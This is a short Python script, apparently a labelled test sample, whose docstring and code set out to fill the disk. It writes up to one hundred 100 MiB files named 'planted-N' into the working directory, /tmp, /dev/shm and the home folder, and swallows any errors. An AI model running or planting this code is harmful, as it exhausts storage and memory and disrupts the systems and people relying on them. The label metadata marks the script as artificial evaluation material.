"""Files until the disk is full, wherever one can be written.

keeps: all
flagged: no
"""

# %% before area
import os

for folder in (".", "/tmp", "/dev/shm", os.path.expanduser("~")):
    try:
        for number in range(100):
            with open(f"{folder}/planted-{number}", "wb") as file:
                for _ in range(100):
                    file.write(bytes(1 << 20))
    except OSError:
        pass
